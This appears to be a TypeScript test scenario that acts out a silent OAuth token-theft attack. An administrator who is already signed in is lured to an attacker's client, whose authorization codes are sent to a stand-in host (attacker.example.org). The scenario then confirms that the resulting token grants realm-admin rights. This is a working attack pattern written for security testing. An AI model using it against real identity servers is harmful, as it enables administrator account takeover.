import { newBrowser } from "./browser.ts";
import { proveRealmAdmin } from "./prove-realm-admin.ts";
import type { Scene } from "./scene.ts";
import {
  adminConsole,
  type BrowserClient,
  fillSignIn,
  takeTokenInBrowser,
} from "./sign-in-by-browser.ts";

/** Where the attacker receives codes; nothing answers there, since the browser stops before it. */
export const attackersAddress = "https://attacker.example.org/";

/**
 * What a link to the attacker's client leads to when an administrator who is signed in to the admin
 * console follows it: the attacker gets the code, and with it a token of the administrator.
 */
export async function lureAdministrator(scene: Scene, client: BrowserClient): Promise<void> {
  const browser = newBrowser();
  const own = adminConsole(scene);
  await takeTokenInBrowser(scene, browser, own, {
    answer: (page) => fillSignIn(browser, page, own.redirectUri, scene.chief),
  });
  // That page asks nothing: the administrator sees no more than a blink.
  const parameters = { prompt: "none" };
  await proveRealmAdmin(scene, await takeTokenInBrowser(scene, browser, client, { parameters }));
}
